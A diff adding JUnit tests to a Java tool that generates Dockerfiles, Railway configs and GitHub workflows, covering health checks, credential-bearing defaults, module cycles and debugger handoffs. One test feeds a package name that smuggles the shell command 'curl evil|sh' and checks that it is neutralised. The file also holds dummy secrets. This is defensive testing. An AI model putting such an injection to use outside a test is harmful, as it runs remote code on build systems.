@@ -1,19 +1,29 @@
 package dev.backendteam.ops.deployment;
 
 import dev.backendteam.contract.Artifact;
+import dev.backendteam.contract.Diagnosis;
 import dev.backendteam.contract.EvidenceStatus;
 import dev.backendteam.contract.FileInput;
 import dev.backendteam.contract.Finding;
+import dev.backendteam.contract.Handoff;
 import dev.backendteam.contract.ResultStatus;
+import dev.backendteam.contract.Specialist;
 import dev.backendteam.contract.StepOutcome;
+import dev.backendteam.contract.TaskEvent;
 import dev.backendteam.contract.TaskKind;
+import dev.backendteam.ops.deployment.docker.DockerfileLinter;
+import dev.backendteam.ops.deployment.stack.Deployable;
+import dev.backendteam.ops.deployment.stack.Stack;
+import dev.backendteam.ops.deployment.stack.StackDetector;
 import org.junit.jupiter.api.Test;
 
+import java.time.Duration;
 import java.util.List;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertNotNull;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 /** Each stack the detector knows yields files that pass every check; bad or missing input never crashes. */
@@ -79,6 +89,24 @@ class DeployStacksTest {
     }
 
     @Test
+    void aGoImageLeavesItsHealthCheckToRailway() {
+        StepOutcome go = work(new FileInput("go.mod", "module example.com/api\n\ngo 1.24\n"));
+        allPassed(go);
+        String dockerfile = DeployFixtures.content(go.artifacts(), "Dockerfile");
+        assertFalse(dockerfile.contains("HEALTHCHECK --") || dockerfile.contains("-healthcheck"),
+                "an ordinary Go binary answers no -healthcheck flag: " + dockerfile);
+        assertFalse(has(go, "docker.healthcheck-missing"), "the lint rule agrees: " + go.findings());
+        assertTrue(DeployFixtures.content(go.artifacts(), ".railway/railway.ts").contains("healthcheck: \"/healthz\""));
+        assertTrue(go.findings().stream().anyMatch(f -> f.ruleId().equals("deploy.health-advice")
+                && f.message().contains("Railway's HTTP health check only")), go.findings().toString());
+        DockerfileLinter linter = DockerfileLinter.standard();
+        assertTrue(linter.lint("Dockerfile", "FROM gcr.io/distroless/static-debian12:nonroot\nEXPOSE 8080\n").stream()
+                .noneMatch(f -> f.ruleId().equals("docker.healthcheck-missing")), "nothing in it can ask an endpoint");
+        assertTrue(linter.lint("Dockerfile", "FROM node:22.20.0-bookworm-slim\nEXPOSE 8080\n").stream()
+                .anyMatch(f -> f.ruleId().equals("docker.healthcheck-missing")), "an image with a runtime still needs one");
+    }
+
+    @Test
     void aRunnableJarAndALibraryInOneBuild() {
         StepOutcome o = work(new FileInput("pom.xml", """
                 <project><artifactId>shop-parent</artifactId><packaging>pom</packaging>
@@ -114,11 +142,19 @@ class DeployStacksTest {
                         stripe.api-key=${STRIPE_API_KEY:sk_test_hunter2}
                         billing.currency=${BILLING_CURRENCY:EUR}
                         %dev.billing.debug-token=${DEBUG_TOKEN:dev-only}
+                        quarkus.redis.hosts=${REDIS_URI:redis://:pw@host:6379}
+                        billing.ledger=${LEDGER_DSN:host=ledger user=billing sslmode=disable}
                         """));
         allPassed(o);
         for (Artifact a : o.artifacts()) {
             assertFalse(a.content().contains("sk_test_hunter2"), a.name() + " carries a secret's default");
+            assertFalse(a.content().contains("pw@host") || a.content().contains("user=billing"),
+                    a.name() + " carries a credential-bearing default");
         }
+        String guide = DeployFixtures.content(o.artifacts(), "DEPLOY.md");
+        assertTrue(guide.contains("`REDIS_URI` | (its default) | optional (has a default)")
+                && guide.contains("`LEDGER_DSN` | (its default) | optional (has a default)"), guide);
+        assertTrue(guide.contains("optional (default EUR)"), "a harmless default is still told");
         String ts = DeployFixtures.content(o.artifacts(), ".railway/railway.ts");
         assertTrue(ts.contains("STRIPE_API_KEY: preserve()"), ts);
         assertTrue(ts.contains("QUARKUS_DATASOURCE_PASSWORD: postgres.env.PGPASSWORD"), ts);
@@ -158,6 +194,90 @@ class DeployStacksTest {
         assertTrue(has(bad, "deploy.pom-unreadable") && has(bad, "deploy.package-json-unreadable")
                 && has(bad, "deploy.input-path"), bad.findings().toString());
         assertTrue(bad.findings().stream().noneMatch(f -> f.message().contains("root:x:0")), "no external entity read");
+    }
+
+    private static Stack detect(FileInput... files) {
+        return StackDetector.standard().detect(List.of(files));
+    }
+
+    private static boolean has(Stack s, String rule) {
+        return s.findings().stream().map(Finding::ruleId).anyMatch(rule::equals);
+    }
+
+    private static String pom(String artifactId, String packaging, String modules) {
+        return "<project><groupId>g</groupId>" + (artifactId == null ? "" : "<artifactId>" + artifactId + "</artifactId>")
+                + "<version>1</version><packaging>" + packaging + "</packaging><modules>" + modules + "</modules>"
+                + "<build><plugins><plugin><groupId>io.quarkus</groupId><artifactId>quarkus-maven-plugin</artifactId>"
+                + "</plugin></plugins></build></project>";
+    }
+
+    @Test
+    void aModuleCycleIsReportedAndWalkedOnce() {
+        Stack s = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> detect(
+                new FileInput("pom.xml", pom("root", "pom", "<module>a</module>")),
+                new FileInput("a/pom.xml", pom("a", "jar", "<module>../b</module>")),
+                new FileInput("b/pom.xml", pom("b", "jar", "<module>../a</module>"))), "a guard against looping");
+        assertTrue(has(s, "deploy.module-cycle"), s.findings().toString());
+        assertEquals(List.of("a", "b"), s.deployables().stream().map(Deployable::name).toList());
+        assertEquals(List.of("", "a", "b"), s.deployables().get(0).build().moduleDirs());
+    }
+
+    @Test
+    void anImpossibleNodeEngineAndAPomWithoutArtifactIdAreFindingsNotFailures() {
+        Stack node = detect(new FileInput("package.json",
+                "{\"name\": \"api\", \"scripts\": {\"start\": \"node s.js\"}, \"engines\": {\"node\": \">=99999999999\"}}"));
+        assertTrue(has(node, "deploy.node-engine-unknown"), node.findings().toString());
+        assertEquals("22", node.deployables().get(0).runtime());
+
+        Stack maven = detect(new FileInput("pom.xml", pom(null, "jar", "")));
+        assertTrue(has(maven, "deploy.pom-artifactid-missing"), maven.findings().toString());
+        assertEquals("web", maven.deployables().get(0).name());
+    }
+
+    @Test
+    void aHostileServiceNameIsSluggedAndSaid() {
+        StepOutcome o = work(new FileInput("package.json", "{\"name\": \"x$(curl evil|sh)\\nrun: y\","
+                + " \"scripts\": {\"start\": \"node s.js\"}}"), new FileInput("package-lock.json", "{}"),
+                new FileInput("s.js", "app.listen(Number(process.env.PORT ?? 3000), '0.0.0.0')"));
+        allPassed(o);
+        assertTrue(o.findings().stream().anyMatch(f -> f.ruleId().equals("deploy.service-name")
+                && f.object().equals("package.json") && f.message().contains("x-curl-evil-sh-run-y")), o.findings().toString());
+        for (Artifact a : o.artifacts()) {
+            assertFalse(a.content().contains("$(curl") || a.content().contains("run: y"), a.name());
+        }
+        String workflow = DeployFixtures.content(o.artifacts(), ".github/workflows/deploy.yml");
+        assertTrue(workflow.contains("run: railway up --ci --service x-curl-evil-sh-run-y\n"), workflow);
+    }
+
+    private static StepOutcome handedOff(String rule, String object, FileInput... files) {
+        TaskEvent t = DeployFixtures.task(TaskKind.WORK, List.of(files), List.of());
+        Diagnosis diagnosis = new Diagnosis(rule, null, object, null, "java.lang.OutOfMemoryError: Java heap space",
+                "runtime", "deployment", "critical", List.of());
+        return ENGINE.work(new TaskEvent(t.version(), t.taskId(), t.jobId(), t.step(), t.attempt(), t.service(),
+                t.role(), t.kind(), t.task(), t.inputs(), t.artifacts(), 1, null, List.of(),
+                new Handoff(Specialist.OPS, "deployment", "the fix belongs to ops(deployment)", diagnosis)));
+    }
+
+    @Test
+    void aDebuggerHandoffWithoutFilesAsksForTheFilesOfItsDiagnosis() {
+        StepOutcome o = handedOff("jvm.oom-heap", "Java heap space");
+        assertEquals(ResultStatus.NEEDS_INPUT, o.status());
+        assertTrue(o.question().contains("jvm.oom-heap (Java heap space)") && o.question().contains("memory settings")
+                && o.question().contains("Dockerfile") && o.question().contains("report"), o.question());
+        assertFalse(o.question().startsWith("Which service"), o.question());
+    }
+
+    @Test
+    void aDebuggerHandoffWithFilesTiesTheDeliveryToItsDiagnosis() {
+        StepOutcome o = handedOff("jvm.oom-heap", "Java heap space", new FileInput("pom.xml",
+                pom("api", "jar", "")), new FileInput("src/main/resources/application.properties",
+                "quarkus.http.port=${PORT:8080}\n"));
+        assertEquals(ResultStatus.SUCCEEDED, o.status(), o.reason() + " " + o.evidence());
+        Finding tie = o.findings().stream().filter(f -> f.ruleId().equals("deploy.diagnosis")).findFirst()
+                .orElseThrow(() -> new AssertionError(o.findings().toString()));
+        assertTrue(tie.message().contains("jvm.oom-heap") && tie.message().contains("Dockerfile: HEALTHCHECK")
+                && tie.message().contains("$PORT") && tie.message().contains("memory -XX:MaxRAMPercentage=75"),
+                tie.message());
     }
 
     @Test
